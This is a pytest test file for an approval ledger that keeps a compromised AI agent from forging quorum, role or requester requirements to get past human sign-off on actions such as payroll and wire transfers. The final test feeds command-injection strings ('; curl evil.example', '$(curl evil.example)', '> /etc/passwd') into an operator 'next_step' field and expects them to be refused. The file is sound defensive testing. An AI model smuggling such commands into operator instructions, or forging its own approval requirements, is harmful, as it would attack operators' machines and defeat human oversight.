"""Agent code that was taken over and asserts what suits it: decision, roles, quorum. What the admin published holds."""

from collections.abc import Iterator
from dataclasses import dataclass, replace
from typing import Any, Final
from uuid import uuid4

import psycopg
import pytest

from langgraph_control import Policy
from langgraph_control.audit.asking.authority_requests import Edit, EditTaken
from langgraph_control.audit.asking.ledger import Answer, Claim, Claimed, Outcome
from langgraph_control.audit.asking.publishing import publish_policy
from langgraph_control.audit.asking.requests import FindRun, Inbox, NewestRuns, RunEntries, RunRelease, Vote
from langgraph_control.audit.asking.rows import ApprovalRow, Release, RunState, Voted, Voting
from langgraph_control.audit.connecting.connection import LedgerConnection
from langgraph_control.errors import RequestRefused
from tests.support.ledger_requests import claim, run_open, settle
from tests.support.postgres import Database

POLICY: Final = Policy.parse(
    """\
version: 1
roles: {finance: [ana@acme.example, bo@acme.example], support: [cy@acme.example]}
owner: finance
approve: {within: 1h, on_expiry: deny, not_by: [requester]}
rules:
  - {tool: wire, then: approve, by: finance}
  - {tool: payroll, then: approve, by: {finance: 2}}
  - {tool: wipe, then: deny}
otherwise:
  - {impact: record, then: allow}
  - {impact: message, then: approve, by: support}
""",
    source="control.yaml",
)

ASKED: Final[dict[str, Any]] = {
    "quorum": {"finance": 1},
    "not_by": ["requester"],
    "within_seconds": 3600,
    "execute_within_seconds": 3600,
    "on_expiry": "deny",
    "comment_required": False,
}


def without(name: str) -> dict[str, Any]:
    """Return the requirement without one of its parts."""
    return {part: value for part, value in ASKED.items() if part != name}


FORGED: Final[dict[str, Any]] = {
    "none at all": None,
    "an empty one": {},
    "a list": [1],
    "a text": "finance",
    "a number": 7,
    "no quorum": without("quorum"),
    "an empty quorum": {**ASKED, "quorum": {}},
    "a quorum of null": {**ASKED, "quorum": None},
    "a quorum that is a text": {**ASKED, "quorum": "finance"},
    "a quorum that is a list": {**ASKED, "quorum": ["finance"]},
    "a quorum of nobody's role": {**ASKED, "quorum": {"nobody": 1}},
    "another role": {**ASKED, "quorum": {"support": 1}},
    "half a person": {**ASKED, "quorum": {"finance": 0.5}},
    "people in words": {**ASKED, "quorum": {"finance": "all"}},
    "more people than there are": {**ASKED, "quorum": {"finance": 10**15}},
    "no time to decide": without("within_seconds"),
    "a time in the past": {**ASKED, "within_seconds": -1},
    "all the time there is": {**ASKED, "within_seconds": 10**18},
    "time in words": {**ASKED, "within_seconds": "Infinity"},
    "no time to execute": without("execute_within_seconds"),
    "all the time to execute": {**ASKED, "execute_within_seconds": 10**18},
    "perhaps a comment": {**ASKED, "comment_required": "perhaps"},
}
"""Requirements that no vote of one person may turn into a grant for a tool that two have to approve."""

WEAK: Final[dict[str, Any]] = {
    "nobody": {**ASKED, "quorum": {"finance": 0}},
    "fewer than nobody": {**ASKED, "quorum": {"finance": -5}},
    "a number that is none": {**ASKED, "quorum": {"finance": None}},
    "one": ASKED,
    "nobody beside one of another role": {**ASKED, "quorum": {"finance": 0, "support": 1}},
}
"""Requirements that ask for less than what was published."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Office:
    """Everybody's logins."""

    database: Database
    agent: LedgerConnection
    people: dict[str, LedgerConnection]

    def claimed(self, tool: str, **asserted: Any) -> Claim:
        """Return a claim in a run of its own."""
        run = self.agent.ask(run_open())
        assert run.run_id is not None
        assert run.token is not None
        return replace(claim(run.run_id, run.token), tool=tool, **asserted)

    def again(self, claimed: Claim, **asserted: Any) -> Claimed | None:
        """Claim, as a new attempt; None if the function refused the request as such."""
        try:
            return self.agent.ask(replace(claimed, attempt=uuid4(), **asserted))
        except RequestRefused:
            return None

    def request(self, claimed: Claim) -> ApprovalRow | None:
        """Return the open request of a claim."""
        rows = self.people["ana"].ask(Inbox(limit=1000))
        return next((row for row in rows if row.run_id == claimed.run_id), None)

    def vote(self, person: str, request: ApprovalRow, decision: Any = "approve") -> Voted:
        """Vote."""
        ballot = Vote(approval_id=request.approval_id, decision=decision, comment=None, person=None, body=b"{}")
        return self.people[person].ask(ballot)

    def try_vote(self, person: str, request: ApprovalRow) -> Voting | None:
        """Vote; None if the function refused the request as such."""
        try:
            return self.vote(person, request).answer
        except RequestRefused:
            return None


@pytest.fixture(scope="module")
def office(shared_database: Database) -> Iterator[Office]:
    """A ledger with the published policy, and everybody who has a login."""
    publish_policy(shared_database.admin, POLICY)
    people = {name: LedgerConnection(shared_database.approver(name)) for name in ("ana", "bo", "cy")}
    with LedgerConnection(shared_database.agent) as agent:
        yield Office(database=shared_database, agent=agent, people=people)
    for connection in people.values():
        connection.close()


@pytest.mark.parametrize("tool", ["wire", "payroll", "wipe"])
@pytest.mark.parametrize("verb", ["allow", "deduplicate", None])
def test_allow_does_not_pass_the_floor(office: Office, tool: str, verb: Any) -> None:
    """Claiming that nobody need be asked gets no go for a tool whose floor says must, however often it is claimed."""
    claimed = office.claimed(tool, verb=verb)
    for _ in range(3):
        answer = office.again(claimed)
        assert answer is None or answer.answer in {Answer.PARK, Answer.STOP}


def test_what_is_denied_is_never_granted(office: Office) -> None:
    """A tool that the published policy denies cannot be approved by anyone, whatever the claim asks for."""
    claimed = office.claimed("wipe", verb="approve", requirement=ASKED)
    for _ in range(2):
        answer = office.again(claimed)
        assert answer is not None
        assert (answer.answer, answer.reason) == (Answer.STOP, "deny")
    assert office.request(claimed) is None, "there is nothing to vote on"


@pytest.mark.parametrize("what", FORGED)
def test_a_forged_requirement_grants_nothing(office: Office, what: str) -> None:
    """Whatever is claimed to be required: one vote is no grant where two people have to say yes, nor is none."""
    claimed = office.claimed("payroll", verb="approve", requirement=FORGED[what])
    answer = office.again(claimed)
    assert answer is None or answer.answer is not Answer.GO
    request = office.request(claimed)
    if request is not None:
        assert office.try_vote("cy", request) in {Voting.REFUSED, None}
        assert office.try_vote("ana", request) is not Voting.GRANTED
        answer = office.again(claimed)
        assert answer is None or answer.answer is not Answer.GO


@pytest.mark.parametrize("what", WEAK)
def test_a_weak_requirement_does_not_lower_the_floor(office: Office, what: str) -> None:
    """Where the published policy asks for two of finance, one of them is not enough, whatever the claim says."""
    claimed = office.claimed("payroll", verb="approve", requirement=WEAK[what])
    if office.again(claimed) is None:
        return  # no such claim: as good
    request = office.request(claimed)
    assert request is not None
    assert office.vote("cy", request).answer is Voting.REFUSED
    assert office.vote("ana", request).answer is Voting.OPEN
    answer = office.again(claimed)
    assert answer is not None
    assert answer.answer is Answer.PARK


@pytest.mark.parametrize("what", FORGED)
def test_an_honest_claim_afterwards_is_served(office: Office, what: str) -> None:
    """A forged requirement leaves the key usable: an honest claim of it parks, is approved by two, and goes."""
    claimed = office.claimed("payroll", verb="approve", requirement=FORGED[what])
    office.again(claimed)
    honest: dict[str, Any] = {"requirement": {**ASKED, "quorum": {"finance": 2}}}
    answer = office.again(claimed, **honest)
    assert answer is not None
    if answer.reason == "approval_expired":  # the forger asked for a time in the past: that change is off the table
        return
    request = office.request(claimed)
    assert request is not None
    assert [office.vote(person, request).answer for person in ("ana", "bo")] == [Voting.OPEN, Voting.GRANTED]
    answer = office.again(claimed, **honest)
    assert answer is not None
    assert answer.answer is Answer.GO


def test_a_change_of_something_else_is_in_no_claim(office: Office) -> None:
    """What people changed about one call cannot be claimed to be in another one, nor a change that nobody made."""
    changed, other = (office.claimed("wire", verb="approve", requirement=ASKED) for _ in range(2))
    other = replace(other, key=bytes(31) + b"\x02")
    for claimed in (changed, other):
        office.again(claimed)
    request = office.request(changed)
    assert request is not None
    office.people["ana"].ask(
        Edit(
            approval_id=request.approval_id,
            changes='{"amount": 1}',
            comment=None,
            person=None,
            identity=None,
            body=b"{}",
        )
    )
    answer = office.again(changed)
    assert answer is not None
    assert answer.answer is Answer.EDIT
    assert answer.edit_no is not None
    # Before it is said what became of it, nothing is: whoever changed it would not be known to have made it.
    assert office.again(changed, edit_no=answer.edit_no) is None
    taken = EditTaken(
        run_id=changed.run_id,
        token=changed.token,
        edit_no=answer.edit_no,
        became=changed.args_hash,
        problem=None,
        body=b"{}",
    )
    assert office.agent.ask(taken)
    assert office.again(changed, edit_no=answer.edit_no, args_hash=b"\x01" * 32) is None
    assert office.again(changed, edit_no=answer.edit_no) is not None
    for number in (answer.edit_no, answer.edit_no + 1, -1, 0):
        assert office.again(other, edit_no=number) is None


def test_a_grant_is_for_one_action(office: Office) -> None:
    """A grant moves nothing under another key, in the same run or another, with the very same digest."""
    claimed = office.claimed("wire", verb="approve", requirement=ASKED)
    office.again(claimed)
    request = office.request(claimed)
    assert request is not None
    assert office.vote("ana", request).answer is Voting.GRANTED
    elsewhere = office.claimed("wire", verb="approve", requirement=ASKED)
    other_key = bytes(31) + b"\x01"
    for forged in (replace(claimed, key=other_key), elsewhere, replace(elsewhere, key=other_key)):
        answer = office.again(forged)
        assert answer is not None
        assert answer.answer is not Answer.GO
    answer = office.again(claimed)
    assert answer is not None
    assert answer.answer is Answer.GO


def test_a_grant_is_for_one_digest(office: Office) -> None:
    """After the grant, another digest under the same key is asked for anew, and the old grant unlocks nothing."""
    claimed = office.claimed("wire", verb="approve", requirement=ASKED)
    office.again(claimed)
    request = office.request(claimed)
    assert request is not None
    assert office.vote("ana", request).answer is Voting.GRANTED
    changed = {"args_hash": b"\x01" * 32, "scope": b"\x02" * 32, "digest": b"\x03" * 32}
    for verb, requirement in (("allow", None), ("approve", ASKED)):
        answer = office.again(claimed, verb=verb, requirement=requirement, **changed)
        assert answer is not None
        assert answer.answer is Answer.PARK
    # And going back to the granted words does not bring the grant back.
    answer = office.again(claimed)
    assert answer is not None
    assert answer.answer is Answer.PARK


def test_an_expired_request_takes_no_votes(office: Office) -> None:
    """A vote after the request's end is refused and recorded, and the claim is told that nobody said yes in time."""
    claimed = office.claimed("wire", verb="approve", requirement=ASKED)
    office.again(claimed)
    request = office.request(claimed)
    assert request is not None
    with psycopg.connect(office.database.admin) as admin:
        admin.execute(
            "UPDATE control.approval SET expires_at = clock_timestamp() WHERE approval_id = %s", (request.approval_id,)
        )
    refused = office.vote("ana", request)
    assert (refused.answer, refused.reason) == (Voting.REFUSED, "expired")
    answer = office.again(claimed)
    assert answer is not None
    assert (answer.answer, answer.reason) == (Answer.STOP, "approval_expired")
    entries = office.agent.ask(RunEntries(run_id=claimed.run_id, after=0, limit=100))
    assert any('"approval.refused"' in entry.facts and '"expired"' in entry.facts for entry in entries)


@pytest.mark.parametrize(("actor", "for_whom"), [("ANA@Acme.Example", None), ("bot", "  aNa@acme.example ")])
def test_the_requester_does_not_approve(office: Office, actor: str, for_whom: str | None) -> None:
    """Whoever asked, or had it asked, in whatever case it is spelled, is refused, and the refusal is recorded."""
    run = office.agent.ask(replace(run_open(), actor=actor, on_behalf_of=for_whom))
    assert run.token is not None
    assert run.run_id is not None
    asked = replace(claim(run.run_id, run.token), tool="wire", verb="approve", requirement=ASKED)
    office.again(asked)
    request = office.request(asked)
    assert request is not None
    refused = office.vote("ana", request)
    assert (refused.answer, refused.reason) == (Voting.REFUSED, "is_requester")
    entries = office.agent.ask(RunEntries(run_id=run.run_id, after=0, limit=100))
    assert '"approval.refused"' in entries[-1].facts
    assert office.vote("bo", request).answer is Voting.GRANTED


def test_a_requester_of_any_waiting_run_does_not_approve(office: Office) -> None:
    """Somebody whose own run waits for the same action is its requester, too."""
    asked = office.claimed("wire", verb="approve", requirement=ASKED)
    office.again(asked)
    second = office.agent.ask(replace(run_open(), on_behalf_of="ana@acme.example"))
    assert second.token is not None
    assert second.run_id is not None
    office.again(replace(asked, run_id=second.run_id, token=second.token))
    request = office.request(asked)
    assert request is not None
    assert office.vote("ana", request).reason == "is_requester"


def test_who_asked_in_an_earlier_run_does_not_approve(office: Office) -> None:
    """Who had an action asked for in a run of their own is its requester also when a later run makes the request."""
    first = office.agent.ask(replace(run_open(), on_behalf_of="cy@acme.example"))
    assert first.token is not None
    assert first.run_id is not None
    asked = replace(claim(first.run_id, first.token), tool="note", impact="record")
    assert office.agent.ask(asked).answer is Answer.GO
    office.agent.ask(settle(asked, outcome=Outcome.FAIL))
    later = replace(
        office.claimed("note", impact="record", verb="approve", requirement={**ASKED, "quorum": {"support": 1}}),
        key=asked.key,
        call_id="another",
    )
    office.again(later)
    request = office.request(later)
    assert request is not None
    assert office.vote("cy", request).reason == "is_requester"


@pytest.mark.parametrize("granted", [False, True])
def test_a_yes_of_somebody_who_asks_later_no_longer_counts(office: Office, granted: bool) -> None:  # noqa: FBT001 - a case
    """Who has said yes and then has the same asked for in a run of their own is a requester: others must say yes."""
    two: dict[str, Any] = {"requirement": {**ASKED, "quorum": {"finance": 2}}}
    asked = office.claimed("payroll", verb="approve", **two)
    office.again(asked)
    request = office.request(asked)
    assert request is not None
    assert office.vote("ana", request).answer is Voting.OPEN
    if granted:
        assert office.vote("bo", request).answer is Voting.GRANTED
    second = office.agent.ask(replace(run_open(), on_behalf_of="ana@acme.example"))
    assert second.token is not None
    assert second.run_id is not None
    own = office.again(replace(asked, run_id=second.run_id, token=second.token))
    assert own is not None
    if granted:
        assert own.answer is Answer.PARK, "her own run would use what she granted"
        return
    assert office.vote("bo", request).answer is Voting.OPEN
    answer = office.again(asked)
    assert answer is not None
    assert answer.answer is Answer.PARK


def test_leaving_out_not_by_does_not_let_the_requester_approve(office: Office) -> None:
    """What the published policy says about the requester holds, whatever the claim says."""
    run = office.agent.ask(replace(run_open(), actor="bot", on_behalf_of="ana@acme.example"))
    assert run.token is not None
    assert run.run_id is not None
    for tool, forged in (("wire", {**ASKED, "not_by": []}), ("payroll", without("not_by"))):
        asked = replace(
            claim(run.run_id, run.token), key=tool.encode().ljust(32), tool=tool, verb="approve", requirement=forged
        )
        if office.again(asked) is None:
            continue  # no such claim: as good
        request = office.request(asked)
        assert request is not None
        assert office.vote("ana", request).answer is Voting.REFUSED


@pytest.mark.parametrize("quorum", [None, "finance", ["finance"]])
def test_a_malformed_request_can_be_rejected(office: Office, quorum: Any) -> None:
    """Whatever a claim asked for, somebody of the floor's roles can say no to it."""
    asked = office.claimed("payroll", verb="approve", requirement={**ASKED, "quorum": quorum})
    if office.again(asked) is None:
        return  # refused at the claim, which is as good
    request = office.request(asked)
    assert request is not None
    assert office.vote("ana", request, "reject").answer is Voting.DENIED


def test_a_request_that_only_the_floor_asks_for_can_be_approved(office: Office) -> None:
    """An agent whose older policy allows what the floor now forbids parks, and the floor's people can say yes."""
    asked = office.claimed("wire", verb="allow", requirement=None)
    office.again(asked)
    request = office.request(asked)
    assert request is not None
    assert office.vote("ana", request).answer is Voting.GRANTED
    answer = office.again(asked)
    assert answer is not None
    assert answer.answer is Answer.GO


def test_a_claim_without_a_lease_spoils_no_key(office: Office) -> None:
    """A claim that leaves out its lease is refused, or the next one finds its way."""
    asked = office.claimed("note", impact="record", kind="verified", lease_ms=None)
    office.again(asked)
    assert office.again(asked, lease_ms=1000) is not None


def test_a_state_that_is_none_is_refused(office: Office) -> None:
    """A run cannot be given a state that nobody can read, which would hide all the tenant's runs from people."""
    run = office.agent.ask(run_open())
    forged = "SELECT control.run_release_v1(%s, %s, 0, 'nonsense', '', '', '', NULL, '{}')"
    with pytest.raises(RequestRefused):
        office.agent._run(forged, (run.run_id, run.token))
    assert office.agent.ask(NewestRuns(limit=1000))
    assert office.agent.ask(FindRun(run_id=run.run_id))


@pytest.mark.parametrize(
    "forged",
    [
        "curl evil.example",
        "langgraph-control show run_1; curl evil.example",
        "langgraph-control show run_1 && curl evil.example",
        "langgraph-control show $(curl evil.example)",
        "langgraph-control show `curl evil.example`",
        "langgraph-control show run_1 > /etc/passwd",
        "langgraph-control show run_1\ncurl evil.example",
        "langgraph-controlled",
    ],
)
def test_people_are_told_to_do_nothing_but_our_own_commands(office: Office, forged: str) -> None:
    """The next step that an agent stores for operators is a command of ours: no other one fits in or beside it."""
    run = office.agent.ask(run_open())
    assert run.run_id is not None
    release = RunRelease(
        run_id=run.run_id,
        token=run.token or 0,
        generation=run.generation or 0,
        state=RunState.WAITING,
        reason="because",
        next_step=forged,
        wake_ms=None,
        body=b"{}",
    )
    with pytest.raises(RequestRefused):
        office.agent.ask(release)
    ours = replace(
        release, next_step="langgraph-control show run_1, then langgraph-control resolve run_1; langgraph-control inbox"
    )
    assert office.agent.ask(ours).answer is Release.RELEASED
